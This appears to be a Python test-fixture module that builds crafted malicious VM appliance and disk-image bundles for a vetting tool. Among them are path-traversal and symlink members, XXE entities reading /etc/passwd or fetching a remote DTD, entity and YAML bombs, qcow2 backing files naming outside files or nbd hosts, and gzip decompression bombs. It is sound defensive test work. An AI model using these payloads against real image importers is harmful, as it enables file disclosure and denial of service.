"""Bundles that were made to do harm, put together by hand: good ones with one thing changed.

Each is a `Trap`: what vetting must call it, and whether it must not even be opened. OUTSIDE stands
for a file beside the directory that the bundle is in, with what nobody may see.
"""

from __future__ import annotations

import gzip
import io
import json
import os
import struct
import tarfile
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

from bundles import ovf_by_hand, xva_by_hand
from probe.archive_making import (
    LXD,
    box,
    by_hand,
    docker,
    header,
    member,
    oci,
    octal,
    ova,
    overlay,
    ovf,
    padded,
    pax,
    qcow2,
    tar,
    tar_of,
    vmdk,
    zip_of,
)

__all__ = ["OUTSIDE", "TRAPS", "Trap"]

OUTSIDE = "../outside/secret.raw"


@dataclass(frozen=True)
class Trap:
    """``build`` gives the file ``file``; ``code``: of a finding of severity error under the policy
    "strict". ``closed``: it is refused when it is opened, with that code where it is one of the
    packaging (``named``). ``unread``: no disk in it can be read.
    """

    name: str
    file: str
    build: Callable[[], bytes]
    code: str
    closed: bool = False
    named: bool = False
    unread: bool = False

    def __str__(self) -> str:
        return self.name

    def make(self, folder: Path) -> Path:
        path = folder / self.file
        path.write_bytes(self.build())
        return path


def _packaging(name: str, code: str, build: Callable[[], bytes], file: str = "a.ova") -> Trap:
    return Trap(name, file, build, code, closed=True, named=True, unread=True)


def _with(*members: tuple[tarfile.TarInfo, bytes]) -> Callable[[], bytes]:
    """A good appliance with more in it."""

    def build() -> bytes:
        good = [member(name, data) for name, data in ova().items()]
        return tar(*good, *members)

    return build


def _linked(kind: bytes, link: str) -> Callable[[], bytes]:
    """An appliance whose disk is a link."""

    def build() -> bytes:
        files = ova()
        return tar(
            member("machine.ovf", files["machine.ovf"]),
            member("disk.vmdk", kind=kind, link=link),
        )

    return build


def _raw(*parts: bytes) -> Callable[[], bytes]:
    """An appliance, and headers by hand behind it."""
    return lambda: _joined(ova(), *parts)


def _joined(files: dict[str, bytes], *parts: bytes) -> bytes:
    """A tar of ``files``, with more by hand behind them."""
    good = [part for name, data in files.items() for part in (_header(name, data), data)]
    return by_hand(*good, *parts)


def _header(name: str, data: bytes) -> bytes:
    return header(name.encode(), octal(len(data)))


def _patched(data: bytes, signature: bytes, at: int, value: bytes) -> bytes:
    """A zip with a field of the first structure of that signature changed."""
    start = data.index(signature) + at
    return data[:start] + value + data[start + len(value) :]


_LOCAL, _CENTRAL = b"PK\3\4", b"PK\1\2"


def _stored() -> bytes:
    return zip_of(ova(), zipfile.ZIP_STORED)


def _zip_link(target: str) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("machine.ovf", ova()["machine.ovf"])
        link = zipfile.ZipInfo("disk.vmdk")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        archive.writestr(link, target)
    return file.getvalue()


def _overlapping_zip() -> bytes:
    """Two members in one place (Fifield, 2019): the second's entry points at the first."""
    data = zip_of(ova() | {"other.vmdk": vmdk()}, zipfile.ZIP_STORED)
    second = data.rindex(_CENTRAL)
    return data[: second + 42] + struct.pack("<I", 0) + data[second + 46 :]


def _archives() -> Iterator[Trap]:
    up = member("../evil.txt", b"x")
    yield _packaging("tar-goes-up", "member-escapes", _with(up))
    yield _packaging("tar-absolute", "member-escapes", _with(member("/tmp/evil.txt", b"x")))
    yield _packaging("tar-goes-up-inside", "member-escapes", _with(member("a/../../evil", b"x")))
    yield _packaging("tar-windows", "member-escapes", _with(member("C:\\evil.txt", b"x")))
    yield _packaging("tar-unc", "member-escapes", _with(member("\\\\host\\share\\x", b"x")))
    yield _packaging("tar-symlink", "member-escapes", _linked(tarfile.SYMTYPE, OUTSIDE))
    yield _packaging("tar-symlink-root", "member-escapes", _linked(tarfile.SYMTYPE, "/etc/passwd"))
    yield _packaging("tar-hardlink", "member-escapes", _linked(tarfile.LNKTYPE, OUTSIDE))
    yield _packaging("tar-behind-link", "member-escapes", _with(
        member("sub", kind=tarfile.SYMTYPE, link="x"), member("sub/evil.txt", b"x")))  # fmt: skip
    yield _packaging("tar-device", "member-device", _with(member("sda", kind=tarfile.BLKTYPE)))
    yield _packaging("tar-terminal", "member-device", _with(member("tty", kind=tarfile.CHRTYPE)))
    yield _packaging("tar-pipe", "member-device", _with(member("pipe", kind=tarfile.FIFOTYPE)))
    yield _packaging("tar-twice", "member-duplicate", _with(member("disk.vmdk", b"another")))
    yield _packaging("tar-twice-dotted", "member-duplicate", _with(member("./disk.vmdk", b"x")))
    yield _packaging("tar-pax-name", "copies-disagree", _raw(
        pax(path="other.vmdk"), header(b"good.txt", octal(1)), b"x"))  # fmt: skip
    yield _packaging("tar-pax-goes-up", "member-escapes", _raw(
        pax(path="../evil.txt"), header(b"good.txt", octal(1)), b"x"))  # fmt: skip
    yield _packaging("tar-pax-size", "member-size", _raw(
        pax(size="1024"), header(b"good.txt", octal(512)), bytes(512), header(b"x", octal(0)))
    )  # fmt: skip
    yield _packaging("tar-gz-goes-up", "member-escapes", lambda: gzip.compress(_with(up)()))
    yield _packaging("box-goes-up", "member-escapes", lambda: tar(
        *(member(name, data) for name, data in box("libvirt").items()), up), "a.box")  # fmt: skip
    yield _packaging(
        "xva-goes-up",
        "member-escapes",
        lambda: tar(
            member("ova.xml", xva_by_hand.ova_xml(("Ref:7", 1 << 20))),
            member("Ref:7/00000000", b"x" * 512),
            member("Ref:7/../../evil", b"x"),
        ),
        "a.xva",
    )
    yield _packaging("lxd-goes-up", "member-escapes", lambda: tar_of(
        {"metadata.yaml": LXD, "rootfs/../../evil": b"x"}), "a.tar")  # fmt: skip
    yield _packaging("zip-goes-up", "member-escapes", lambda: zip_of(ova() | {"../evil": b"x"}),
                     "a.zip")  # fmt: skip
    yield _packaging("zip-absolute", "member-escapes", lambda: zip_of(ova() | {"/evil": b"x"}),
                     "a.zip")  # fmt: skip
    yield _packaging("zip-backslashes", "member-escapes",
                     lambda: zip_of(ova() | {"..\\evil": b"x"}), "a.zip")  # fmt: skip
    yield _packaging("zip-symlink", "member-escapes", lambda: _zip_link(OUTSIDE), "a.zip")
    yield _packaging("zip-overlaps", "tables-overlap", _overlapping_zip, "a.zip")
    yield _packaging("zip-other-size", "member-size", lambda: _patched(
        _stored(), _LOCAL, 22, struct.pack("<I", 17)), "a.zip")  # fmt: skip
    yield _packaging("zip-other-name", "copies-disagree", lambda: _patched(
        _stored(), _LOCAL, 30, b"another.ovf"), "a.zip")  # fmt: skip
    yield _packaging("zip-size-behind-end", "member-size", lambda: _patched(
        _patched(_stored(), _CENTRAL, 20, struct.pack("<I", 1 << 30)),
        _CENTRAL, 24, struct.pack("<I", 1 << 30)), "a.zip")  # fmt: skip
    yield Trap("zip-name-of-two-lines", "a.zip", lambda: zip_of({
        "good\nvmimg: all is well.qcow2": _backed(OUTSIDE.encode())}), "odd-field",
        unread=True)  # fmt: skip
    yield Trap("tar-name-that-steers", "a.ova", _with(member("\x1b[2Jx", b"x")), "odd-field")
    # What a header promises, and what is there
    yield Trap("tar-size-behind-end", "a.ova", lambda: _joined(
        {"machine.ovf": ovf()}, header(b"disk.vmdk", octal(1 << 30)), vmdk())[:-1024],
        "truncated", unread=True)  # fmt: skip
    yield Trap("tar-size-of-exabytes", "a.ova", lambda: _joined(
        {"machine.ovf": ovf()},
        header(b"disk.vmdk", b"\x80" + bytes(3) + (1 << 62).to_bytes(8, "big")), vmdk())[:-1024],
        "truncated", unread=True)  # fmt: skip
    yield Trap("tar-negative-size", "a.ova", lambda: _joined(
        {"machine.ovf": ovf()}, header(b"disk.vmdk", b"\xff" * 12), vmdk()),
        "member-size", closed=True, unread=True)  # fmt: skip
    yield Trap("tar-two-ends", "a.ova", lambda: tar_of({"machine.ovf": ovf()}) + tar_of(ova()),
               "hidden-data", unread=True)  # fmt: skip


_BOMB = b"""<!DOCTYPE Envelope [<!ENTITY a "aaaaaaaaaa">%s]>""" % b"".join(
    b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(12)
)
_READS = b'<!DOCTYPE Envelope [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
_FETCHES = b'<!DOCTYPE Envelope SYSTEM "http://192.0.2.1/evil.dtd">'


def _declaring(xml: bytes, doctype: bytes) -> bytes:
    """XML with a document type, and an entity of it in use."""
    head, end, rest = xml.partition(b"?>") if xml.startswith(b"<?xml") else (b"", b"", xml)
    used = b"m" if doctype is _BOMB else b"x"
    return head + end + doctype + rest.replace(b"machine<", b"&%s;<" % used)


def _ova(descriptor: bytes, **more: bytes) -> bytes:
    return tar_of(ova(("ovf", "vmdk"), ovf=descriptor) | more)


def _href(href: str) -> Trap:
    def build() -> bytes:
        return _ova(ovf(href))

    return Trap(f"ovf-href-{href}", "a.ova", build, "names-outside", unread=True)


def _descriptions() -> Iterator[Trap]:
    vm = xva_by_hand.ova_xml(("Ref:7", 1 << 20))
    for name, doctype in (("bomb", _BOMB), ("reads", _READS), ("fetches", _FETCHES)):
        for kind, file, build in (
            ("ovf", "a.ova", lambda doctype: _ova(_declaring(ovf(), doctype))),
            ("xva", "a.xva", lambda doctype: tar_of({
                "ova.xml": _declaring(vm, doctype), "Ref:7/00000000": bytes(512)})),
            ("box", "a.box", lambda doctype: tar_of(
                box("virtualbox") | {"box.ovf": _declaring(ovf(), doctype)})),
        ):  # fmt: skip
            yield Trap(f"{kind}-xml-{name}", file, lambda b=build, d=doctype: b(d),  # type: ignore[misc]
                       "xml-entities", closed=True, unread=True)  # fmt: skip
    yield Trap("ovf-xml-deep", "a.ova", lambda: _ova(ovf().replace(
        b"<Info>A machine</Info>", b"<Info>" * 50_000 + b"</Info>" * 50_000)),
        "xml-oversize", closed=True, unread=True)  # fmt: skip
    yield Trap("ovf-xml-large", "a.ova", lambda: _ova(ovf().replace(
        b"<Info>A machine</Info>", b"<Info>%s</Info>" % (b"x" * (9 << 20)))),
        "xml-oversize")  # fmt: skip
    for href in (
        OUTSIDE, "/etc/passwd", "file:///etc/passwd", "http://192.0.2.1/disk.vmdk",
        "%2e%2e/outside/secret.raw", "..\\outside\\secret.raw", "C:\\disk.vmdk", "//host/x.vmdk",
        "a/../../outside/secret.raw",
    ):  # fmt: skip
        yield _href(href)
    yield Trap("ovf-size-lies", "a.ova", lambda: _ova(ovf(size=17)), "member-size")
    yield Trap("ovf-of-a-device", "a.ova", lambda: _ova(ovf(resource="/dev/sda")), "names-outside")
    yield Trap("ovf-two", "a.ova", lambda: _ova(ovf(), **{"b.ovf": ovf()}), "copies-disagree")
    yield Trap("mf-goes-up", "a.ova", lambda: _ova(ovf(), **{
        "machine.mf": ovf_by_hand.manifest({OUTSIDE: b""})}), "names-outside")  # fmt: skip
    yield Trap("mf-of-nothing", "a.ova", lambda: _ova(ovf(), **{
        "machine.mf": ovf_by_hand.manifest({"other.vmdk": b""})}), "manifest-lies")  # fmt: skip
    yield Trap("mf-twice", "a.ova", lambda: _ova(ovf(), **{
        "machine.mf": ovf_by_hand.manifest({"disk.vmdk": b""}) * 2}), "manifest-lies")  # fmt: skip


_DESCRIPTOR = """# Disk DescriptorFile
version=1
CID=fffffffe
parentCID={cid}
createType="{kind}"
{parent}
# Extent description
{extent}
"""


def _text(extent: str, kind: str = "monolithicFlat", parent: str = "") -> bytes:
    hint = f'parentFileNameHint="{parent}"' if parent else ""
    cid = "12345678" if parent else "ffffffff"
    text = _DESCRIPTOR.format(cid=cid, kind=kind, parent=hint, extent=extent)
    return text.encode().ljust(1024, b"\n")


def _data_file(name: bytes) -> bytes:
    """A qcow2 that keeps its data in the file ``name``."""
    image = bytearray(qcow2())
    struct.pack_into(">Q", image, 72, struct.unpack_from(">Q", image, 72)[0] | 4)
    at = struct.unpack_from(">I", image, 100)[0]
    record = struct.pack(">II", 0x44415441, len(name)) + name + bytes(-len(name) % 8)
    image[at : at + len(record) + 8] = record + bytes(8)
    return bytes(image)


def _backed(name: bytes) -> bytes:
    image = bytearray(qcow2())
    struct.pack_into(">QI", image, 8, 4096, len(name))
    image[4096 : 4096 + len(name)] = name
    return bytes(image)


def _disk(name: str, code: str, build: Callable[[], bytes]) -> Trap:
    return Trap(f"disk-{name}", "a.ova", lambda: tar_of({
        "machine.ovf": ovf(), "disk.vmdk": build()}), code, unread=True)  # fmt: skip


def _disks() -> Iterator[Trap]:
    secret = OUTSIDE.encode()
    yield _disk("vmdk-parent", "backing-file-outside",
                lambda: _text("RW 2048 ZERO", "monolithicSparse", OUTSIDE))  # fmt: skip
    yield _disk("vmdk-extent", "extent-outside", lambda: _text(f'RW 2048 FLAT "{OUTSIDE}" 0'))
    yield _disk("vmdk-extent-absolute", "extent-outside",
                lambda: _text('RW 2 FLAT "/etc/passwd" 0'))  # fmt: skip
    yield _disk("vmdk-device", "device-extent",
                lambda: _text('RW 2048 FLAT "/dev/sda" 0', "fullDevice"))  # fmt: skip
    yield _disk("qcow2-backing", "backing-file-outside", overlay)
    yield _disk("qcow2-backing-up", "backing-file-outside", lambda: _backed(secret))
    yield _disk("qcow2-backing-json", "backing-file-outside", lambda: _backed(
        b'json:{"driver":"raw","file.filename":"../outside/secret.raw"}'))  # fmt: skip
    yield _disk("qcow2-backing-nbd", "backing-file-outside", lambda: _backed(b"nbd://192.0.2.1/x"))
    yield _disk("qcow2-data-file", "data-file-outside", lambda: _data_file(secret))
    yield Trap("disk-archive", "a.ova", lambda: tar_of({
        "machine.ovf": ovf(), "disk.vmdk": tar_of(ova())}), "nested-archive")  # fmt: skip
    yield Trap(
        "box-of-an-overlay",
        "a.box",
        lambda: tar_of(box("libvirt") | {"box.img": _backed(secret)}),
        "backing-file-outside",
        unread=True,
    )
    yield Trap("zip-of-an-overlay", "a.zip", lambda: zip_of({"disk.qcow2": _backed(secret)}),
               "backing-file-outside", unread=True)  # fmt: skip
    yield Trap("containerdisk-of-an-overlay", "a.tar", lambda: tar_of(docker() | {
        "0123abcd/layer.tar": tar(member("disk", kind=tarfile.DIRTYPE),
                                  member("disk/a.qcow2", _backed(secret)))}),
        "backing-file-outside", unread=True)  # fmt: skip


def _said(**said: object) -> Callable[[], bytes]:
    """A box of libvirt, by what its metadata says."""
    return lambda: tar_of(box("libvirt") | {"metadata.json": json.dumps(said).encode()})


_ALIASES = b"a: &a [x, x, x, x, x, x, x, x, x]\n" + b"".join(
    b"%c: &%c [%s]\n" % (98 + n, 98 + n, b", ".join([b"*%c" % (97 + n)] * 9)) for n in range(12)
)


def _metadata() -> Iterator[Trap]:
    deep = b"[" * 200_000 + b"]" * 200_000
    yield Trap("box-json-deep", "a.box", lambda: tar_of(box("libvirt") | {
        "metadata.json": b'{"provider":"libvirt","disks":%s}' % deep}), "malformed",
        closed=True, unread=True)  # fmt: skip
    yield Trap("docker-json-deep", "a.tar", lambda: tar_of(docker() | {"manifest.json": deep}),
               "malformed", closed=True, unread=True)  # fmt: skip
    yield Trap("oci-json-deep", "a.tar", lambda: tar_of(oci() | {"index.json": deep}),
               "malformed", closed=True, unread=True)  # fmt: skip
    yield Trap("box-disk-goes-up", "a.box", _said(
        provider="libvirt", disks=[{"path": OUTSIDE, "format": "raw"}]), "names-outside",
        unread=True)  # fmt: skip
    yield Trap("box-disk-absolute", "a.box", _said(
        provider="libvirt", disks=[{"path": "/etc/passwd", "format": "raw"}]), "names-outside",
        unread=True)  # fmt: skip
    yield Trap("box-calls-it-raw", "a.box", lambda: tar_of({
        "metadata.json": b'{"provider":"libvirt","format":"raw","virtual_size":1}',
        "box.img": _backed(OUTSIDE.encode())}), "backing-file-outside")  # fmt: skip
    yield Trap("docker-layer-goes-up", "a.tar", lambda: tar_of(docker(Layers=[OUTSIDE])),
               "names-outside", unread=True)  # fmt: skip
    yield Trap("docker-config-goes-up", "a.tar", lambda: tar_of(docker(Config=OUTSIDE)),
               "names-outside", unread=True)  # fmt: skip
    yield Trap("oci-digest-goes-up", "a.tar", lambda: tar_of(oci(digest="sha256:" + OUTSIDE)),
               "names-outside", unread=True)  # fmt: skip
    yield Trap("lxd-yaml-aliases", "a.tar", lambda: tar_of(
        {"metadata.yaml": LXD + _ALIASES, "rootfs.img": qcow2()}), "malformed",
        closed=True, unread=True)  # fmt: skip
    yield Trap("lxd-yaml-deep", "a.tar", lambda: tar_of(
        {"metadata.yaml": LXD + b"x: " + b"[" * 9000, "rootfs.img": qcow2()}), "malformed",
        closed=True, unread=True)  # fmt: skip
    yield Trap("lxd-template-goes-up", "a.tar", lambda: tar_of({
        "metadata.yaml": LXD.replace(b"hostname.tpl", OUTSIDE.encode()),
        "rootfs.img": qcow2()}), "names-outside")  # fmt: skip


TRAPS: tuple[Trap, ...] = (*_archives(), *_descriptions(), *_disks(), *_metadata())


# Too much of something: these take a while to make, and each is opened in a process of its own


def many_headers(path: Path, count: int) -> Path:
    """An appliance with so many empty files behind it."""
    with open(path, "wb") as file:
        file.write(_joined(ova())[:-1024])
        for number in range(count):
            file.write(header(b"%08d" % number, octal(0)))
        file.write(bytes(1024))
    return path


def long_export(path: Path, blocks: int) -> Path:
    """A good XVA with so many blocks of its disk, which are holes, and their checksums."""
    said = xva_by_hand.ova_xml(("Ref:7", blocks << 20))
    with open(path, "wb") as file:
        file.write(by_hand(_header("ova.xml", said), said)[:-1024])
        for number in range(blocks):
            name = b"Ref:7/%08d" % number
            file.write(header(name, octal(1 << 20)))
            file.seek(1 << 20, os.SEEK_CUR)
            file.write(header(name + b".checksum", octal(40)) + padded(b"0" * 40))
        file.write(bytes(1024))
    return path


def many_in_zip(path: Path, count: int) -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in ova().items():
            archive.writestr(name, data)
        for number in range(count):
            archive.writestr(f"{number:08}", b"")
    return path


def bomb(path: Path, size: int) -> Path:
    """A box, compressed, whose disk is ``size`` zeros."""
    said = b'{"provider":"libvirt","format":"raw","virtual_size":1}'
    head = _joined({"metadata.json": said})[:-1024] + header(b"box.img", octal(size))
    with gzip.open(path, "wb", compresslevel=6) as file:
        file.write(head)
        for _ in range(size >> 20):
            file.write(bytes(1 << 20))
        file.write(bytes(1024))
    return path


def sparse_maps(path: Path, count: int) -> Path:
    """An image for Google's cloud that says it has a map of ``count`` blocks, and has no end."""
    block = bytearray(header(b"disk.raw", octal(512), b"S", magic=b"ustar  \0"))
    block[482] = 1
    block[483:495] = b"\x80" + bytes(3) + (1 << 60).to_bytes(8, "big")
    block[148:156] = b" " * 8
    block[148:156] = b"%06o\0 " % sum(block)
    more = bytearray(512)
    more[504] = 1
    path.write_bytes(bytes(block) + bytes(more) * count + padded(b"x") + bytes(1024))
    return path
